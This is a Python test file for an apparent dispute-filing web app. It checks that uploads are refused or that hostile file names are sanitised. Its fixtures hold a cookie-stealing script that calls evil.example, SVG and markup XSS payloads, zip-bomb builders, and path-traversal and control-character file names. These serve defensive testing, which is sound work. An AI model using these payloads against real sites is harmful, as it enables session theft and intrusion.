"""Upload attacks through the filing form and the claimant portal: refused with a clear message in the visitor's
language and nothing kept, or — for hostile names — stored under a random name and shown only sanitised."""

from __future__ import annotations

import io
import re
import struct
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa

from dispute_hub.intake.validators import ValidationError
from dispute_hub.models import Dispute, Evidence
from dispute_hub.reference import load_reference
from tests.intake.test_intake_web import PDF, _form

MIB = 1 << 20


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _declaring(data: bytes, size: int) -> bytes:
    """The archive with every central-directory entry claiming ``size`` bytes once extracted."""
    patched, at = bytearray(data), -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        struct.pack_into("<I", patched, at + 24, size)
    return bytes(patched)


HTML = b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/?'+document.cookie</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
# name -> (file name, content, Chinese message, English message)
ATTACKS = {
    "html_as_pdf": ("起诉状.pdf", HTML, "的内容是网页（HTML），不予接受", "is not accepted (HTML can run script"),
    "svg_script_as_pdf": ("商标图样.pdf", SVG, "的内容是SVG 图像，不予接受", "is not accepted (SVG can run script"),
    "zip_bomb": ("证据包.zip", _zip({"zeros.bin": bytes(8 * MIB)}), "疑似“压缩炸弹”", "a possible zip bomb"),
    # 500 entries just under the per-entry floor: 500 MiB declared by an archive of a few dozen KiB
    "zip_bomb_of_small_entries": ("证据包.zip", _declaring(_zip({f"{i}.txt": b"x" * 100 for i in range(500)}),
                                                           MIB - 1), "疑似“压缩炸弹”", "a possible zip bomb"),
    "thousands_of_entries": ("证据包.zip", _zip({f"{i}.txt": b"x" for i in range(2500)}), "包含的文件过多",
                             "holds too many files"),
    "empty_file": ("空白证据.pdf", b"", "是空文件", "is empty"),
}
# name sent -> name kept (backslashes are already taken as escapes by the multipart parser, as browsers send them)
HOSTILE_NAMES = {
    "traversal": ("../../../../etc/cron.d/evil.pdf", "evil.pdf"),
    "windows_traversal": ("..\\..\\Windows\\System32\\hosts.pdf", None),
    "over_long": ("证" * 400 + ".pdf", "证" * 116 + ".pdf"),
    "markup": ("<img src=x onerror=alert(1)>.pdf", "_img src=x onerror=alert(1)_.pdf"),
    "bidi_and_controls": ("\u202efdp.exe\x07\x1b[31m.pdf", "fdp.exe[31m.pdf"),
}


@pytest.fixture
def ready(db):
    load_reference()
    db.session.commit()


def _stored_files(app) -> list[Path]:
    """Files kept as evidence (the form's draft lists, JSON beside them, are not files of the visitor's)."""
    root = Path(app.config["UPLOAD_DIR"])
    return sorted(p for p in root.rglob("*") if p.is_file() and p.suffix != ".json")


def _cases(db) -> int:
    return db.session.execute(sa.select(sa.func.count()).select_from(Dispute)).scalar_one()


def _file(client, evidence=()):
    data = _form(client)
    if evidence:
        data["evidence"] = [(io.BytesIO(content), name) for name, content in evidence]
    return client.post("/file", data=data, content_type="multipart/form-data")


@pytest.fixture
def portal_case(client, db, ready) -> str:
    """A case filed in this browser, which the portal then opens without the code."""
    assert _file(client).status_code == 302
    return db.session.execute(sa.select(Dispute.tracking_no)).scalar_one()


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_the_filing_form_refuses_the_attack_and_files_nothing(app, client, db, ready, attack, lang):
    name, content, zh, en = ATTACKS[attack]
    client.get(f"/lang/{lang}")
    response = _file(client, [(name, content)])
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert (zh if lang == "zh" else en) in page and f"“{name}”" in page
    assert _cases(db) == 0 and _stored_files(app) == []


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_the_portal_refuses_the_attack_and_attaches_nothing(app, client, db, portal_case, attack, lang):
    name, content, zh, en = ATTACKS[attack]
    client.get(f"/lang/{lang}")
    response = client.post(f"/track/{portal_case}/evidence", content_type="multipart/form-data",
                           data={"evidence": [(io.BytesIO(content), name)], "note": ""})
    assert response.status_code == 302
    page = client.get(f"/track/{portal_case}").get_data(as_text=True)
    assert (zh if lang == "zh" else en) in page
    assert db.session.execute(sa.select(sa.func.count()).select_from(Evidence)).scalar_one() == 0
    assert _stored_files(app) == []


def _check_stored(app, db, shown: str | None, page: str, raw: str) -> Evidence:
    (item,) = db.session.execute(sa.select(Evidence)).scalars().all()
    name = item.original_filename
    assert name == shown or shown is None
    assert not re.search(r"[/\\\x00-\x1f\u202a-\u202e]|\.\.", name) and len(name) <= 120 and name.endswith(".pdf")
    (path,) = _stored_files(app)
    assert re.fullmatch(r"[0-9a-f]{64}", path.name) and path.name == item.stored_name
    assert path.parent.parent == Path(app.config["UPLOAD_DIR"]) and path.read_bytes() == PDF
    assert raw not in page and "<img" not in page  # only the sanitised name, HTML-escaped, is shown
    return item


@pytest.mark.parametrize("hostile", HOSTILE_NAMES)
def test_a_hostile_name_through_the_portal_is_stored_randomly_and_shown_sanitised(app, client, db, portal_case,
                                                                                  hostile):
    raw, shown = HOSTILE_NAMES[hostile]
    client.post(f"/track/{portal_case}/evidence", content_type="multipart/form-data",
                data={"evidence": [(io.BytesIO(PDF), raw)], "note": ""})
    page = client.get(f"/track/{portal_case}").get_data(as_text=True)
    item = _check_stored(app, db, shown, page, raw)
    download = client.get(f"/evidence/{portal_case}/{item.id}")
    disposition = download.headers["Content-Disposition"]
    download.close()
    assert download.status_code == 200 and disposition.startswith("attachment;")
    assert "\r" not in disposition and "\n" not in disposition and "/" not in disposition.split(";", 1)[1]


@pytest.mark.parametrize("hostile", HOSTILE_NAMES)
def test_a_hostile_name_through_the_form_is_stored_randomly_and_shown_sanitised(app, client, db, ready, hostile):
    raw, shown = HOSTILE_NAMES[hostile]
    data = _form(client)
    description, data["description"] = data["description"], ""  # refused: the page shows the upload's draft
    data["evidence"] = [(io.BytesIO(PDF), raw)]
    draft = client.post("/file", data=data, content_type="multipart/form-data").get_data(as_text=True)
    assert raw not in draft and "<img" not in draft
    data["description"] = description
    data.pop("evidence")
    assert client.post("/file", data=data, content_type="multipart/form-data").status_code == 302
    _check_stored(app, db, shown, draft, raw)


def test_a_large_archive_that_compresses_like_real_documents_is_still_accepted():
    import base64
    import random

    from dispute_hub.intake.filetypes import inspect_zip

    text = base64.b64encode(random.Random(8).randbytes(6 * MIB))  # 8 MiB of text that packs about 1.3 times
    pages = {f"scan-{i}.txt": text[i * MIB:(i + 1) * MIB] for i in range(8)}
    assert inspect_zip(_zip(pages)).total_size == len(text)
    with pytest.raises(ValidationError) as caught:
        inspect_zip(ATTACKS["zip_bomb_of_small_entries"][1])
    assert caught.value.code == "compression_ratio"
